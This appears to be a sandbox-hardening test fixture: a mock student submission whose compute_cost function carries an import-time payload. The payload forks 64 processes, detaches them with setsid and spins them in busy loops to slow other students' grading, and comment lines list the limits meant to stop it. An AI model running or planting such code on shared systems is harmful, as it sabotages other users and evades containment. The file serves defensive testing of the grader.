# attack: at the top level: leave the session's process group with setsid and start many CPU-burning processes, so that classmates graded at the same time are slowed and lose points to timeouts
# student: d
# function: compute_cost
# stopped by: the student's process cap (cgroup pids.max, RLIMIT_NPROC of its uid), the zygote as subreaper ending every orphan, the PID namespace or the student's uid or cgroup ending the rest; time budgets are CPU time
import numpy as np

# BEGIN PAYLOAD
import os

for _ in range(64):
    try:
        if os.fork() == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        pass
            finally:
                os._exit(0)
    except BaseException:
        break
# END PAYLOAD


def compute_cost(A2, Y):
    return float(-np.mean(Y * np.log(A2)))
